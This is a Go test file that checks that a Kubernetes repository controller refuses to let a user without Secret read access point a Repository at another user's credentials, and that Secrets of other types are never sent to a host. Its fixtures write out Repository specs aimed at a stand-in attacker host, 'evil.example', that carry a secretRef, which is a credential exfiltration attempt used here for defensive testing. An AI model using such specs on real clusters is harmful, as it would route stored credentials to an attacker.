package repositories

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/rest"

	configv1alpha1 "github.com/starlinghq/starling/api/config/v1alpha1"
	"github.com/starlinghq/starling/test/testenv"
)

// TestSecretsGoToWhoMayReadThem: a user who may write Repositories and not get a Secret cannot have
// it sent anywhere.
func TestSecretsGoToWhoMayReadThem(t *testing.T) {
	t.Parallel()
	e := newEnvironment(t)
	e.secret(t, "login", map[string]string{"username": "me", "password": "hunter2"})
	apply := func(group, resource, text string) {
		t.Helper()
		obj := testenv.Parse(t, text)
		gvr := schema.GroupVersionResource{Group: group, Version: "v1", Resource: resource}
		if _, err := e.client.Resource(gvr).Namespace(e.namespace).Create(t.Context(), obj, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	const rbac = "rbac.authorization.k8s.io"
	apply(rbac, "roles", `{apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: {name: repositories}, rules: [
		{apiGroups: [config.porch.kpt.dev], resources: [repositories], verbs: [get, create, patch, update]}]}`)
	apply(rbac, "roles", `{apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: {name: login}, rules: [
		{apiGroups: [""], resources: [secrets], resourceNames: [login], verbs: [get]}]}`)
	for user, roles := range map[string][]string{"mallory": {"repositories"}, "owner": {"repositories", "login"}} {
		for _, role := range roles {
			apply(rbac, "rolebindings", fmt.Sprintf(`{apiVersion: rbac.authorization.k8s.io/v1, kind: RoleBinding, metadata: {name: %s-%s},
				roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: %s}, subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: %s}]}`, user, role, role, user))
		}
	}
	as := func(user string) dynamic.ResourceInterface {
		config := rest.CopyConfig(e.config)
		config.Impersonate.UserName = user
		client, err := dynamic.NewForConfig(config)
		if err != nil {
			t.Fatal(err)
		}
		return client.Resource(configv1alpha1.Repositories).Namespace(e.namespace)
	}
	create := func(user, name, spec string) error {
		_, err := as(user).Create(t.Context(), testenv.Parse(t, fmt.Sprintf("{apiVersion: config.porch.kpt.dev/v1alpha1, kind: Repository, metadata: {name: %s}, spec: %s}", name, spec)), metav1.CreateOptions{})
		return err
	}
	patch := func(user, name, text string) error {
		_, err := as(user).Patch(t.Context(), name, types.MergePatchType, []byte(text), metav1.PatchOptions{})
		return err
	}
	refused := func(what string, err error) {
		t.Helper()
		if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "may not get Secret") {
			t.Errorf("%s: %v", what, err)
		}
	}
	allowed := func(what string, err error) {
		t.Helper()
		if err != nil {
			t.Errorf("%s: %v", what, err)
		}
	}
	const gitSpec, ociSpec = "{type: git, git: {repo: 'https://evil.example/r.git', secretRef: {name: login}}}", "{type: oci, oci: {registry: evil.example, secretRef: {name: login}}}"
	// The role takes a moment, and so does the policy.
	testenv.Eventually(t, testenv.Patience, func() (bool, string) {
		err := create("mallory", "early", gitSpec)
		if err == nil {
			_ = e.repositories().Delete(t.Context(), "early", metav1.DeleteOptions{})
		}
		return err != nil && strings.Contains(err.Error(), "may not get Secret"), fmt.Sprint(err)
	})
	refused("git", create("mallory", "a", gitSpec))
	refused("oci", create("mallory", "a", ociSpec))
	allowed("none", create("mallory", "plain", "{type: git, git: {repo: 'https://evil.example/r.git'}}"))
	refused("later", patch("mallory", "plain", `{"spec":{"git":{"secretRef":{"name":"login"}}}}`))
	allowed("by its owner", create("owner", "good", gitSpec))
	refused("another spec", patch("mallory", "good", `{"spec":{"git":{"author":"x"}}}`))
	allowed("a label", patch("mallory", "good", `{"metadata":{"labels":{"a":"b"}}}`))
	allowed("another spec by its owner", patch("owner", "good", `{"spec":{"git":{"author":"x"}}}`))
}

// TestSecretsOfOtherTypes: the content of a Secret that is not for repositories is sent nowhere,
// and a host that is not allowed gets no request.
func TestSecretsOfOtherTypes(t *testing.T) {
	t.Parallel()
	e := newEnvironment(t)
	var mutex sync.Mutex
	var seen []string
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mutex.Lock()
		defer mutex.Unlock()
		seen = append(seen, r.URL.Path+" "+r.Header.Get("Authorization"))
		w.WriteHeader(http.StatusNotFound)
	}))
	defer server.Close()
	for _, text := range []string{
		"{apiVersion: v1, kind: Secret, metadata: {name: opaque}, stringData: {token: hunter2}}",
		"{apiVersion: v1, kind: Secret, metadata: {name: tls}, type: kubernetes.io/tls, stringData: {tls.crt: a, tls.key: b, token: hunter2}}",
	} {
		gvr := schema.GroupVersionResource{Version: "v1", Resource: "secrets"}
		if _, err := e.client.Resource(gvr).Namespace(e.namespace).Create(t.Context(), testenv.Parse(t, text), metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	e.run(t)
	for _, name := range []string{"opaque", "tls"} {
		e.create(t, name, fmt.Sprintf("{type: git, git: {repo: %q, secretRef: {name: %s}}}", server.URL+"/"+name, name))
		if text := e.waitForCondition(t, name, "Ready", "SecretNotFound"); !strings.Contains(text, "which is not for repositories") || !strings.Contains(text, "kubernetes.io/basic-auth") {
			t.Errorf("%s: %s", name, text)
		}
	}
	mutex.Lock()
	defer mutex.Unlock()
	if len(seen) > 0 {
		t.Errorf("requests: %q", seen)
	}
}
